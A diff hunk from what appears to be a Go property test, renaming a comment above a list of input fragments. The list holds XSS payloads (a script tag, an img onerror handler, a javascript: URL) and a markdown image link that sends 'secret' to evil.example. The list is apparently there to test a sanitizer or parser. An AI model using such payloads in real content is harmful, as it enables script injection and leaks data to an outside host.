@@ -19,7 +19,7 @@ var propertyPieces = []string{
 	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "![x](https://evil.example/p?d=secret)",
 	"[t](https://ok.example/)", "CANARY-7f3a9c", " ", " ", "\n", ", ", ". ", "the ", "über ", "日本語 ", "🙂", "2024-01-15 ",
 	"v1.2.3 ", "12345678", "call ", "ok", "::", "-", "<", "[", "!", "+", "(", ":", "=",
-	// date shapes that quickSkip's isoDate rejects, and their near-misses
+	// date shapes that skipDigit's isoDate rejects, and their near-misses
 	"2024-03-01", "1999.1.2", "2024-03-01T", "2024-3-1)", "2024-03-015", "2024-03.01", "4111-11-11", "5555", "7", "/", ".",
 }
 
